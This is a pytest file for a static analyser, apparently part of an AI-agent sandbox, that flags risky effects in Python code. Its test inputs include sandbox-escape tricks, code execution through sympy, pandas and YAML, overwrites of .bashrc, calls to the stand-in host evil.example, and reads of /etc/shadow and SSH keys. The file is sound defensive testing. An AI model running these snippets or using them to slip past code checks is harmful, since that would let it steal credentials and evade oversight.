"""Libraries do more than calculate under many names, and are known by the shape of these."""

import time

import pytest

from llmasos.agent.commands import analyse_python

REFLECTS = [
    "__builtins__.exec('import os')",
    "__builtins__.eval('1')",
    "o = [__builtins__]",
    "f'{__builtins__}'",
    "__loader__.load_module('os')",
    "__spec__.loader",
    "__import__.__call__('os')",
    "list(map(open('a').buffer.raw.__class__, ['x'], ['w']))",
    "list(map(type(open('a').buffer.raw), ['x'], ['w']))",
    "open('a').buffer.raw.__init__('x', 'w')",
    "t = type(open('a').buffer.raw)\nlist(map(t, ['x'], ['w']))",
    "import functools\nfunctools.partial(types[0], 'x', 'w')()",
    "list(map(x.__class__.mro()[0], ['x'], ['w']))",
    "import io\nclass F(io.FileIO):\n    pass\nF('x', 'w')",
    "import io\nlist(map(io.FileIO, ['x'], ['w']))",
    "import yaml as np",
    "from pathlib import Path\nnp = Path('.bashrc')",
]

OTHER_NAMES = [
    "import tarfile\ntarfile.bltn_open('x', 'w')",
    "from tarfile import bltn_open\nbltn_open('x', 'w')",
    "import tarfile\ntarfile.main()",
    "import json.tool\njson.tool.main()",
    "import tokenize\ntokenize._builtin_open('x', 'w')",
    "from tokenize import _builtin_open as o\no('x', 'w')",
    "import zipfile\nzipfile.PyZipFile('x', 'w')",
    "import zipfile\nzipfile.main(['-e', 'a', '.'])",
    "import logging.handlers as h\nh.SocketHandler('evil.example', 80)",
    "from logging.handlers import SysLogHandler as S\nS(('evil.example', 514))",
    "import logging.config\nlogging.config.listen()",
    "import urllib.robotparser",
    "import asyncio\nasyncio.open_unix_connection('/run/x')",
    "import asyncio\nasyncio.start_unix_server(print)",
    "import os\nos.pwrite(1, b'', 0)",
    "import os\nos.copy_file_range(1, 2, 3)",
    "import os\nos.setxattr('a', 'b', b'c')",
    "import os\nos.unshare(1)",
    "from os import *",
    "from os import ftruncate",
    "import uuid\nuuid._get_command_stdout('x')",
    "import platform\nplatform._syscmd_ver()",
    "import types\ntypes.FunctionType(a, {})",
    "from types import CodeType",
    "import inspect\ninspect.getattr_static(a, 'b')",
    "import six\nsix.exec_('x')",
    "import sys\nsys.remote_exec(1, 'x')",
    "import io\nio.FileIO.__init__(a, 'x', 'w')",
    "import pandas as pd\npd.io.common.tempfile.mktemp()",
    "import sklearn.utils as u\nu.joblib",
]

EVALUATES = [
    "import numpy as np\nnp.load('a', None, True)",
    "import numpy as np\nnp.testing.runstring('x', {})",
    "import numpy as np\nt = np.testing\nt.measure('x')",
    "import numpy as np\na, b = np.testing, 1\na.rundocs('x')",
    "from numpy.testing import runstring\nrunstring('x', {})",
    "import numpy as np\nnp.ctypeslib.load_library('a', '.')",
    "np.load('a', allow_pickle=True)",
    "import pandas as pd\npd.eval('@a.b(1)')",
    "df.query(\"a.to_csv('.bashrc') == 1\")",
    "import pandas as pd\npd.read_hdf('a')",
    "import pandas as pd\ndf.pipe(pd.DataFrame.to_csv, 'a')",
    "df.agg('to_csv')",
    "s.apply('to_' + 'csv', path_or_buf='.bashrc')",
    "n = ''.join(['to_', 'csv'])\ns.apply(n, path_or_buf='.bashrc')",
    "df.plot(backend='evil')",
    "import pandas as pd\npd.set_option('plotting.backend', 'evil')",
    "import pandas as pd\npd.options.plotting.backend = 'evil'",
    "import matplotlib\nmatplotlib.use('module://evil')",
    "import matplotlib.pyplot as plt\nplt.switch_backend('module://evil')",
    "import matplotlib\nmatplotlib.rcParams['backend'] = 'module://evil'",
    "import matplotlib.pyplot as plt\nplt.rcParams.update({'text.usetex': True})",
    "import matplotlib.pyplot as plt\nplt.rcParams[k] = v",
    "import matplotlib\nmatplotlib.rc_file('a')",
    'import sympy\nsympy.S(\'__import__("os").system("x")\')',
    "import sympy\nsympy.simplify(open('a').read())",
    "import sympy\ns = input()\nsympy.solve(s)",
    "import sympy\nfor line in open('a'):\n    sympy.simplify(line)",
    "import sympy\nsympy.Matrix(['open(\"x\")'])",
    "import sympy, numpy as np\nsympy.S(np.array([text])[0])",
    "import sympy as sp\nsp.Symbol('x').subs('exec(\"a\")', 1)",
    "expr.subs('__import__(\"os\")', 1)",
    'import statsmodels.formula.api as smf\nsmf.ols(\'__import__("os").system("x") ~ 1\', df)',
    "import statsmodels.formula.api as smf\nsmf.ols(f'{x} ~ y', df)",
    "import statsmodels.api as sm\nsm.load('a.pickle')",
    "import yaml\nyaml.load_all(a, yaml.Loader)",
    "import yaml\nyaml.unsafe_load_all(a)",
    "import yaml\nyaml.full_load_all(a)",
    "import yaml\nyaml.Loader(a).get_single_data()",
    "import yaml\nSafeX = yaml.UnsafeLoader\nyaml.load(a, SafeX)",
    "import yaml\nyaml.load(a, Loader=yaml.UnsafeLoader if 1 else yaml.SafeLoader)",
    "yaml.load(a, yaml.Loader)",
    "import polars as pl\npl.DataFrame.deserialize('a')",
    "import duckdb\nduckdb.install_extension('x')",
    "import duckdb\nduckdb.from_query(\"copy t to 'x'\")",
    "import duckdb\nduckdb.values([1]).query('x', \"copy x to '.bashrc'\")",
    "import duckdb\nduckdb.values([1]).filter(\"getenv('x') = 1\")",
    "from PIL import ImageShow\nImageShow.show(1)",
    "from PIL import Image\nImage.open('a').show()",
    "from lxml import html\nhtml.open_in_browser(1)",
    "from pyarrow import fs\nfs.copy_files('a', 'b')",
    "x.run('rm a')",
    "getattr(x, 'run_line')('rm a')",
    "class A:\n    def run(self):\n        pass\na = A()\na.run = x.y\na.run('b')",
]

WRITES = [
    ("from rich.console import Console\nConsole(record=True).save_text('.bashrc')", [".bashrc"]),
    ("import pandas as pd\npd.DataFrame().to_string(buf='.bashrc')", [".bashrc"]),
    ("df.style.to_typst('.bashrc')", [".bashrc"]),
    ("import pandas as pd\npd.HDFStore('a.h5', 'w')", ["a.h5"]),
    ("from matplotlib.backends.backend_pdf import PdfPages\nPdfPages('.bashrc')", [".bashrc"]),
    ("import matplotlib.font_manager as f\nf.json_dump(1, '.bashrc')", [".bashrc"]),
    ("from networkx import write_gexf\nwrite_gexf(g, '.bashrc')", [".bashrc"]),
    ("import pyarrow as pa\npa.OSFile('.bashrc', mode='w')", [".bashrc"]),
    ("import pyarrow as pa\npa.memory_map('a', 'r+')", ["a"]),
    ("import pyarrow as pa\npa.ipc.new_file('.bashrc', s)", [".bashrc"]),
    ("import pyarrow.dataset as d\nd.write_dataset(t, '.git')", [".git"]),
    ("df.write_ipc_stream('.bashrc')", [".bashrc"]),
    ("lf.sink_ndjson('.bashrc')", [".bashrc"]),
    ("df.serialize('.bashrc')", [".bashrc"]),
    ("getattr(df, 'write_avro')('.bashrc')", [".bashrc"]),
    ("class A:\n    def write_avro(self, p):\n        pass\ndf.write_avro('.bashrc')", [".bashrc"]),
    ("import scipy.io.wavfile as w\nw.write('.bashrc', 1, [1])", [".bashrc"]),
    ("from PIL import Image\nImage.new('L', (1, 1)).save(fp='.bashrc')", [".bashrc"]),
    ("import os\nfrom PIL import Image\nImage.open('a').save(os.path.join('.git', 'b'))", [".git/b"]),
    ("import logging.handlers\nlogging.handlers.WatchedFileHandler('.bashrc')", [".bashrc"]),
    ("import sqlite3\nsqlite3.connect('.bashrc').execute('vacuum')", [".bashrc"]),
    ("tree.write('.bashrc', encoding='utf-8')", [".bashrc"]),
]

VAGUE = [
    "import argparse\nargparse.ArgumentParser().add_argument('f', type=argparse.FileType('w'))",
    "import contextlib\nwith contextlib.chdir('.git'):\n    open('config', 'w')",
    "c.save_svg(path)",
    "df.write_avro(path)",
    "f.write('a')",
]

HANDED = [
    "list(map(df.to_csv, ['.bashrc']))",
    "import functools\nfunctools.partial(df.write_avro, '.bashrc')()",
    "from types import SimpleNamespace\nSimpleNamespace(f=df.to_json).f('.bashrc')",
    "class A:\n    def f(self):\n        self.to_a('x')\n    def to_a(self):\n        pass\ng = A.f\ng(df)",
    "ops = {'a': lambda p: 1}\nops.update(evil)\nops['a']('x')",
    "ops = {'a': lambda p: 1}\nops['a'] = b\nops['a']('x')",
]

HOSTS = [
    "import lxml.etree as e\ne.parse('http://evil.example/x')",
    "import xml.sax\nxml.sax.parse('http://evil.example/x', None)",
    "import numpy as np\nnp.DataSource().open('http://evil.example/x')",
    "import matplotlib.pyplot as plt\nplt.style.use('http://evil.example/x')",
    "import polars as pl\npl.scan_csv('https://evil.example/x').collect()",
    "import pandas as pd\npd.read_xml('a', stylesheet='http://evil.example/x')",
    "df.to_csv('s3://evil.example/x')",
    "import duckdb\nduckdb.sql(\"select * from 'https://evil.example/x'\")",
    "con.execute(\"select * from read_csv(['https://evil.example/x'])\")",
    "x.load('https://evil.example/x')",
]

REACHES = [
    "import seaborn as sns\nsns.load_dataset('x')",
    "from sklearn.datasets import fetch_openml\nfetch_openml('x')",
    "import statsmodels.api as sm\nsm.datasets.get_rdataset('x')",
    "from scipy.datasets import face\nface()",
    "loop.sock_connect(s, a)",
    "loop.getaddrinfo(name, 80)",
    "loop.create_datagram_endpoint(f, remote_addr=a)",
]

READS = [
    ("from pathlib import Path\nPath('/etc/shadow').read_text()", "/etc/shadow"),
    ("from pathlib import Path\nPath('.env').read_bytes()", ".env"),
    ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()", "~/.ssh/id_rsa"),
    ("from pathlib import Path\n(Path.home() / '.ssh').joinpath('id_rsa').exists()", "~/.ssh/id_rsa"),
    ("from pathlib import Path\nlist(Path('/etc').iterdir())", "/etc"),
    ("from pathlib import Path\nfor p in Path.home().rglob('*'):\n    print(p.read_text())", "~"),
    ("from pathlib import Path\np = Path('/etc/a')\nprint((p.parent / 'shadow').read_text())", "/etc/shadow"),
    ("import os\nopen(os.environ['HOME'] + '/.ssh/id_rsa')", "~/.ssh/id_rsa"),
    ("from pathlib import Path\nopen(f'{Path.home()}/.netrc')", "~/.netrc"),
    ("import linecache\nlinecache.getline('/etc/shadow', 1)", "/etc/shadow"),
    ("import filecmp\nfilecmp.cmp('a', '/etc/shadow')", "/etc/shadow"),
    ("import configparser\nconfigparser.ConfigParser().read('/etc/shadow')", "/etc/shadow"),
    ("import xml.etree.ElementTree as e\ne.parse('/etc/a.xml')", "/etc/a.xml"),
    ("import scipy.io as s\ns.loadmat('/etc/a')", "/etc/a"),
    ("import duckdb\nduckdb.sql(\"select * from read_text('/etc/shadow')\")", "/etc/shadow"),
    ("import pandas as pd\npd.read_csv('file:///etc/shadow')", "/etc/shadow"),
    ("x.load_table('/home/a/b')", "/home/a/b"),
]


@pytest.mark.parametrize("code", [*REFLECTS, *HANDED])
def test_what_gets_around_names_fails_closed(code: str) -> None:
    program = analyse_python(code)
    assert program.dynamic
    assert "unknown" in program.effects


@pytest.mark.parametrize("code", [*OTHER_NAMES, *EVALUATES])
def test_what_runs_or_opens_under_another_name_is_unknown(code: str) -> None:
    assert "unknown" in analyse_python(code).effects


@pytest.mark.parametrize(("code", "paths"), WRITES)
def test_what_libraries_write_is_named(code: str, paths: list[str]) -> None:
    program = analyse_python(code)
    assert "writes" in program.effects
    assert list(program.writes) == paths


@pytest.mark.parametrize("code", VAGUE)
def test_what_libraries_write_somewhere_is_dynamic(code: str) -> None:
    program = analyse_python(code)
    assert "writes" in program.effects
    assert program.dynamic


@pytest.mark.parametrize("code", HOSTS)
def test_links_that_are_handed_to_libraries_reach_their_hosts(code: str) -> None:
    program = analyse_python(code)
    assert "network" in program.effects
    assert list(program.hosts) == ["evil.example"]


@pytest.mark.parametrize("code", REACHES)
def test_libraries_that_fetch_are_known(code: str) -> None:
    assert analyse_python(code).effects & {"network", "unknown"}


@pytest.mark.parametrize(("code", "path"), READS)
def test_what_is_read_is_named(code: str, path: str) -> None:
    assert path in analyse_python(code).reads


@pytest.mark.parametrize(
    "text",
    ["from" + " " * 48_000, "scan" * 12_000, "read_ " * 8_000, "a" * 48_000, "a(" * 24_000, ".a" * 24_000],
)
@pytest.mark.parametrize("call", ["con.execute", "df.query", "sympy.S"])
def test_long_statements_are_read_in_time_that_grows_with_their_length(text: str, call: str) -> None:
    start = time.perf_counter()
    analyse_python(f"import sympy\n{call}({text!r})")
    assert time.perf_counter() - start < 2


def test_a_database_in_memory_is_no_file() -> None:
    program = analyse_python("import sqlite3\nsqlite3.connect(':memory:').execute('create table t (a)')")
    assert program.effects == {"reads"}
    assert not program.reads
